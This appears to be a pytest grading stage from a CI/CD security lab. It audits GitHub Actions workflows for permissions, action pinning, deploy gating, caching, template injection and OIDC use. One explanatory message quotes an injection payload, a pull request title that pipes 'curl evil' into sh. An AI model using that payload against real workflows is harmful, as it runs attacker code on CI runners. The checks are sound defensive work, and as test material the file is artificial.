"""Stage `cicd`: GitHub Actions workflows that test, build and deploy safely."""

from __future__ import annotations

import fnmatch
import re
from pathlib import Path

import pytest
from labkit import load_yaml_documents, rel, report, require_tool, run_tool, workspace

FULL_SHA = re.compile(r"^[0-9a-f]{40}$")
FIRST_PARTY = ("actions/", "github/")
UNTRUSTED = re.compile(r"\$\{\{[^}]*\b(github\.event\.|github\.head_ref|inputs\.)[^}]*\}\}")
LOCKFILE = re.compile(
    r"(requirements[^/]*\.(txt|lock)|\.lock|poetry\.lock|uv\.lock|Pipfile\.lock)$"
)
ALLOWED_JOB_WRITES = {
    "id-token",
    "packages",
    "deployments",
    "attestations",
    "checks",
    "statuses",
    "pull-requests",
}
# Actions that exchange the job's OIDC token for cloud credentials or signatures.
OIDC_ACTIONS = (
    "aws-actions/configure-aws-credentials",
    "google-github-actions/auth",
    "azure/login",
    "actions/attest-build-provenance",
    "actions/attest",
    "sigstore/cosign-installer",
)
LINTERS = re.compile(r"\b(ruff|flake8|pylint|pre-commit run)\b")
STATIC_AWS_INPUTS = ("aws-access-key-id", "aws-secret-access-key", "aws-session-token")
STATIC_AWS_ENV = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")


def workflows() -> dict[Path, dict]:
    folder = workspace() / ".github" / "workflows"
    files = sorted([*folder.glob("*.yml"), *folder.glob("*.yaml")]) if folder.is_dir() else []
    if not files:
        pytest.fail(".github/workflows/ has no workflow files", pytrace=False)
    out = {}
    for path in files:
        docs = load_yaml_documents(path)
        out[path] = docs[0] if docs else {}
    return out


def triggers(flow: dict):
    # PyYAML reads the bare key `on` as the boolean True.
    return flow.get("on", flow.get(True)) or {}


def jobs(flow: dict) -> dict:
    return flow.get("jobs") or {}


def steps(job: dict) -> list[dict]:
    return [s for s in job.get("steps") or [] if isinstance(s, dict)]


def runs_tests(job: dict) -> bool:
    return any("pytest" in str(s.get("run", "")) for s in steps(job))


def builds_images(job: dict) -> bool:
    return any(
        "docker/build-push-action" in str(s.get("uses", ""))
        or re.search(r"docker (buildx )?build", str(s.get("run", "")))
        for s in steps(job)
    )


def needs(job: dict) -> list[str]:
    value = job.get("needs") or []
    return [value] if isinstance(value, str) else list(value)


def uses_oidc(job: dict) -> bool:
    return any(str(s.get("uses", "")).startswith(OIDC_ACTIONS) for s in steps(job))


def grants(flow: dict, job: dict, scope: str) -> str | None:
    """The permission a job has for `scope`: its own block, else the workflow's."""
    perms = job.get("permissions", flow.get("permissions"))
    if isinstance(perms, str):
        return (
            "write"
            if perms.strip() == "write-all"
            else "read"
            if perms.strip() == "read-all"
            else None
        )
    return str((perms or {}).get(scope)) if (perms or {}).get(scope) is not None else None


def envs(flow: dict, job: dict, step: dict) -> dict:
    return {**(flow.get("env") or {}), **(job.get("env") or {}), **(step.get("env") or {})}


def names_the_commit(text: str, env: dict) -> bool:
    """Whether `text` refers to github.sha, directly or through an env variable set from it."""
    if "github.sha" in text:
        return True
    used = set(re.findall(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?", text)) | set(
        re.findall(r"env\.([A-Za-z_][A-Za-z0-9_]*)", text)
    )
    return any("github.sha" in str(env.get(name, "")) for name in used)


def image_tags(step: dict) -> list[str]:
    """The tags an image build step gives its images."""
    if "docker/build-push-action" in str(step.get("uses", "")):
        value = (step.get("with") or {}).get("tags") or ""
        return [t.strip() for t in re.split(r"[\n,]", str(value)) if t.strip()]
    script = str(step.get("run", ""))
    if re.search(r"docker (buildx )?build", script):
        return re.findall(r"(?:-t|--tag)[ =](\"[^\"]+\"|'[^']+'|\S+)", script)
    return []


def runs_for_pull_requests(on) -> tuple[bool, list[str]]:
    """Whether a workflow runs for every pull request against main, and why not."""
    if isinstance(on, str):
        return on == "pull_request", []
    if isinstance(on, list):
        return "pull_request" in on, []
    if not isinstance(on, dict) or "pull_request" not in on:
        return False, []
    config = on.get("pull_request") or {}
    why = []
    sample = "src/app/main.py"
    branches, ignored = config.get("branches"), config.get("branches-ignore")
    if branches is not None and not any(fnmatch.fnmatch("main", b) for b in branches):
        why.append(f"pull_request.branches {branches} leaves out pull requests into main")
    if ignored and any(fnmatch.fnmatch("main", b) for b in ignored):
        why.append(f"pull_request.branches-ignore {ignored} skips pull requests into main")
    paths, skipped = config.get("paths"), config.get("paths-ignore")
    if paths is not None and not any(fnmatch.fnmatch(sample, p) for p in paths):
        why.append(f"pull_request.paths {paths} skips pull requests that change the code")
    if skipped and any(fnmatch.fnmatch(sample, p) for p in skipped):
        why.append(f"pull_request.paths-ignore {skipped} skips pull requests that change the code")
    types = config.get("types")
    if types is not None and not {"opened", "synchronize"} <= set(types):
        why.append(
            f"pull_request.types {types} misses new pushes to a pull request (opened and "
            "synchronize)"
        )
    return not why, why


def skips_pull_requests(job: dict) -> bool:
    condition = str(job.get("if") or "")
    return "event_name" in condition and (
        "!= 'pull_request'" in condition or "pull_request" not in condition
    )


def ancestors(all_jobs: dict, name: str) -> set[str]:
    seen, stack = set(), list(needs(all_jobs.get(name) or {}))
    while stack:
        current = stack.pop()
        if current not in seen:
            seen.add(current)
            stack.extend(needs(all_jobs.get(current) or {}))
    return seen


def test_workflow_permissions_least_privilege():
    problems = []
    for path, flow in workflows().items():
        name = rel(path)
        if "permissions" not in flow:
            problems.append(
                f"{name}: no top-level permissions, so every job gets the repository default "
                "(often write to everything)"
            )
        top = flow.get("permissions")
        if isinstance(top, str) and top.strip() in ("write-all", "read-all"):
            problems.append(f"{name}: top-level permissions: {top}")
        elif isinstance(top, dict):
            writes = [k for k, v in top.items() if str(v) == "write"]
            if writes:
                problems.append(
                    f"{name}: top-level permissions grant write ({', '.join(writes)}) to every "
                    "job; grant it in the job that needs it"
                )
        if "pull_request_target" in (
            triggers(flow) if isinstance(triggers(flow), (dict, list)) else [triggers(flow)]
        ):
            problems.append(
                f"{name}: pull_request_target runs fork code with the base repository's secrets"
            )
        for job_name, job in jobs(flow).items():
            perms = (job or {}).get("permissions")
            if isinstance(perms, str) and perms.strip() == "write-all":
                problems.append(f"{name} job {job_name}: permissions: write-all")
            elif isinstance(perms, dict):
                extra = [
                    k for k, v in perms.items() if str(v) == "write" and k not in ALLOWED_JOB_WRITES
                ]
                if extra:
                    problems.append(
                        f"{name} job {job_name}: writes {', '.join(extra)}, which no build or "
                        "deploy job needs"
                    )
                if str(perms.get("id-token")) == "write" and not uses_oidc(job or {}):
                    problems.append(
                        f"{name} job {job_name}: asks for id-token: write but no step exchanges an "
                        "OIDC token (configure-aws-credentials and the like); any action of this "
                        "job could mint one"
                    )
    report(
        "rule: workflows start from no permissions (`permissions: {}` or read-only) and grant "
        "writes per job",
        "the GITHUB_TOKEN is handed to every action a job runs; with write-all, one "
        "compromised dependency can push code, publish releases or rewrite workflows.",
        problems,
    )


def test_third_party_actions_pinned_to_commit_sha():
    problems = []
    for path, flow in workflows().items():
        for job_name, job in jobs(flow).items():
            refs = [(job or {}).get("uses")] + [s.get("uses") for s in steps(job or {})]
            for ref in filter(None, refs):
                ref = str(ref)
                if ref.startswith(("./", "docker://")):
                    continue
                action, _, version = ref.partition("@")
                if action.startswith(FIRST_PARTY):
                    continue
                if not FULL_SHA.match(version):
                    problems.append(
                        f"{rel(path)} job {job_name}: {ref} is pinned to a movable ref, not a "
                        "40-character commit SHA"
                    )
    report(
        "rule: third-party actions are pinned to a full commit SHA (keep the version in a comment)",
        "tags and branches can be moved by whoever controls the action's repository, as in "
        "the tj-actions/changed-files compromise of March 2025; a SHA cannot be.",
        problems,
    )


def test_deploy_gated_behind_tests_and_build_on_main():
    problems = []
    deploy_jobs = []
    for path, flow in workflows().items():
        all_jobs = jobs(flow)
        for job_name, job in all_jobs.items():
            job = job or {}
            if "deploy" in job_name.lower() or job.get("environment"):
                deploy_jobs.append((path, flow, job_name, job))
    if not deploy_jobs:
        pytest.fail(
            "no deploy job found (a job named *deploy* or with an environment)", pytrace=False
        )
    for path, flow, job_name, job in deploy_jobs:
        where = f"{rel(path)} job {job_name}"
        all_jobs = jobs(flow)
        before = ancestors(all_jobs, job_name)
        if not any(runs_tests(all_jobs.get(j) or {}) for j in before):
            problems.append(
                f"{where}: does not need (directly or through other jobs) a job that runs pytest"
            )
        if not any(builds_images(all_jobs.get(j) or {}) for j in before):
            problems.append(f"{where}: does not need a job that builds the images")
        if not job.get("environment"):
            problems.append(
                f"{where}: no environment:, so no required reviewers, branch rule or scoped secrets"
            )
        condition = str(job.get("if") or "")
        on = triggers(flow)
        push = on.get("push") if isinstance(on, dict) else None
        only_main_push = (
            isinstance(on, dict)
            and set(on) <= {"push"}
            and isinstance(push, dict)
            and push.get("branches") in (["main"], "main")
            and not push.get("tags")
        )
        if "refs/heads/main" not in condition and not only_main_push:
            problems.append(
                f"{where}: can run for refs other than main (no `if: github.ref == "
                f"'refs/heads/main'`, and the workflow triggers on {on!r})"
            )
        elif "||" in condition and not only_main_push:
            problems.append(
                f"{where}: `if: {condition}` lets other refs through with ||; deploy when the ref "
                "is main, and only then"
            )
    report(
        "rule: deployment needs the test and build jobs, runs only for main and goes through a "
        "GitHub environment",
        "a deploy that does not wait for tests ships broken code; one that runs for any "
        "branch lets any pushed branch reach production; an environment adds approval and "
        "keeps production credentials away from other jobs.",
        problems,
    )


def test_ci_caches_dependencies_keyed_on_lockfile():
    root = workspace()
    problems = []
    found = False
    for path, flow in workflows().items():
        for job_name, job in jobs(flow).items():
            if not runs_tests(job or {}):
                continue
            keyed = False
            for step in steps(job):
                uses, with_ = str(step.get("uses", "")), step.get("with") or {}
                if uses.startswith("actions/setup-python") and with_.get("cache"):
                    paths = [
                        p.strip()
                        for p in str(with_.get("cache-dependency-path") or "").splitlines()
                        if p.strip()
                    ]
                    locks = [p for p in paths if LOCKFILE.search(p) and any(root.glob(p))]
                    if locks:
                        keyed = True
                    else:
                        problems.append(
                            f"{rel(path)} job {job_name}: setup-python caches but "
                            f"cache-dependency-path names no lock file that exists ({paths})"
                        )
                if uses.startswith("astral-sh/setup-uv") and str(
                    with_.get("enable-cache", "auto")
                ).lower() in ("true", "auto"):
                    # setup-uv keys its cache on cache-dependency-glob, whose default names
                    # **/uv.lock among others; its default enable-cache (auto) caches on
                    # GitHub-hosted runners only, so the cache must be asked for.
                    if str(with_.get("enable-cache")).lower() != "true":
                        problems.append(
                            f"{rel(path)} job {job_name}: setup-uv caches only by default "
                            "(enable-cache: auto, GitHub-hosted runners only); ask for it with "
                            "enable-cache: true and cache-dependency-glob: uv.lock"
                        )
                        continue
                    globs = [
                        p.strip()
                        for p in str(with_.get("cache-dependency-glob") or "").splitlines()
                        if p.strip()
                    ] or ["**/uv.lock"]
                    locks = [g for g in globs if LOCKFILE.search(g) and any(root.glob(g))]
                    if locks:
                        keyed = True
                    else:
                        problems.append(
                            f"{rel(path)} job {job_name}: setup-uv caches but "
                            "cache-dependency-glob names no lock file that exists "
                            f"({globs})"
                        )
                if uses.startswith("actions/cache"):
                    key = str(with_.get("key") or "")
                    files = re.findall(r"hashFiles\(([^)]*)\)", key)
                    if any(LOCKFILE.search(f.strip(" '\"")) for f in files):
                        keyed = True
                    else:
                        problems.append(
                            f"{rel(path)} job {job_name}: actions/cache key {key!r} does not hash "
                            "a lock file"
                        )
            if keyed:
                found = True
            else:
                problems.append(
                    f"{rel(path)} job {job_name}: runs the tests without a dependency cache keyed "
                    "on the lock file"
                )
    if found:
        problems = []
    elif not problems:
        problems.append("no job runs pytest, so nothing could be cached")
    report(
        "rule: the test job caches dependencies under a key derived from the lock file",
        "a cache keyed on the lock file is reused until a dependency changes and then "
        "rebuilt; a fixed key serves stale packages forever, and no cache re-downloads "
        "everything on every push.",
        problems,
    )


def test_no_untrusted_expressions_in_run_steps():
    problems = []
    for path, flow in workflows().items():
        for job_name, job in jobs(flow).items():
            for step in steps(job or {}):
                script = str(step.get("run", ""))
                for match in UNTRUSTED.finditer(script):
                    problems.append(
                        f"{rel(path)} job {job_name} step {step.get('name') or '(unnamed)'}: "
                        f"{match.group(0)} inside run:"
                    )
    report(
        "rule: no attacker-controlled ${{ }} expression (github.event.*, github.head_ref, "
        "inputs.*) inside run:",
        "the expression is pasted into the shell script before it runs: a pull request "
        'titled `"; curl evil | sh; #` executes. Pass the value through env: and use "$VAR".',
        problems,
    )


def test_workflows_pass_zizmor(tmp_path):
    zizmor = require_tool("zizmor")
    folder = workspace() / ".github" / "workflows"
    assert folder.is_dir(), ".github/workflows/ is missing"
    code, output = run_tool(
        [
            zizmor,
            "--offline",
            "--no-config",
            "--no-progress",
            "--color",
            "never",
            "--min-severity",
            "medium",
            str(folder),
        ],
        cwd=tmp_path,
        timeout=120,
    )
    if code != 0:
        findings = [
            line for line in output.splitlines() if re.match(r"^(error|warning|info|help)\[", line)
        ]
        report(
            "rule: workflows pass zizmor (offline audits, medium severity and above)",
            "zizmor finds the GitHub Actions weaknesses attackers use: template injection, "
            "excessive permissions, persisted credentials, unpinned actions. Full output:\n"
            + output[-4000:],
            findings or [f"zizmor exited {code}"],
        )


def test_ci_lints_and_tests_every_pull_request():
    problems, linted, tested = [], [], []
    for path, flow in workflows().items():
        runs, why = runs_for_pull_requests(triggers(flow))
        problems.extend(f"{rel(path)}: {reason}" for reason in why)
        if not runs:
            continue
        for job_name, job in jobs(flow).items():
            job = job or {}
            if skips_pull_requests(job):
                continue
            scripts = " ".join(str(s.get("run", "")) for s in steps(job))
            if "pytest" in scripts:
                tested.append(f"{rel(path)} job {job_name}")
            if LINTERS.search(scripts):
                linted.append(f"{rel(path)} job {job_name}")
    if not tested:
        problems.append("no workflow that runs on pull requests has a job that runs pytest")
    if not linted:
        problems.append("no workflow that runs on pull requests has a job that lints (ruff check)")
    if tested and linted:
        problems = []
    report(
        "rule: CI lints and tests every pull request into main",
        "a pull request is where a defect is cheapest to stop; a check that runs only after "
        "the merge reports it when it is already on main, on its way to production.",
        problems,
    )


def test_cd_ships_commit_tagged_images_with_oidc():
    problems, built, deploys_with_oidc = [], 0, False
    for path, flow in workflows().items():
        for job_name, job in jobs(flow).items():
            job = job or {}
            where = f"{rel(path)} job {job_name}"
            deploys = "deploy" in job_name.lower() or bool(job.get("environment"))
            for step in steps(job):
                env = envs(flow, job, step)
                for tag in image_tags(step):
                    built += 1
                    if tag.strip("\"'").endswith(":latest") or not names_the_commit(tag, env):
                        problems.append(
                            f"{where}: image tag {tag} is not the commit (github.sha); a tag like "
                            "latest or a branch name moves"
                        )
                uses, given = str(step.get("uses", "")), step.get("with") or {}
                if uses.startswith("aws-actions/configure-aws-credentials"):
                    keys = [k for k in STATIC_AWS_INPUTS if k in given]
                    if keys or not given.get("role-to-assume"):
                        problems.append(
                            f"{where}: configure-aws-credentials gets "
                            f"{', '.join(keys) or 'no role-to-assume'}; assume a role with OIDC "
                            "instead of stored keys"
                        )
                    elif grants(flow, job, "id-token") != "write":
                        problems.append(
                            f"{where}: assumes a role with OIDC but the job lacks permissions "
                            "id-token: write, so it cannot get a token"
                        )
                    elif deploys:
                        deploys_with_oidc = True
                for name in env:
                    if name in STATIC_AWS_ENV:
                        problems.append(
                            f"{where}: sets {name} in env; long-lived AWS keys do not belong in CI"
                        )
    if not built:
        problems.append(
            "no job builds images (docker/build-push-action or docker build with a tag)"
        )
    if not deploys_with_oidc:
        problems.append(
            "no deploy job gets its cloud credentials by assuming a role with OIDC "
            "(configure-aws-credentials with role-to-assume)"
        )
    report(
        "rule: CD tags every image with the commit it was built from and gets cloud credentials "
        "through OIDC, never stored keys",
        "a commit tag says exactly what runs and makes a rollback a redeploy of an older SHA; "
        "`latest` is whatever was pushed last. OIDC credentials last minutes and are bound to "
        "this repository and environment; a stored access key works from anywhere until revoked.",
        problems,
    )
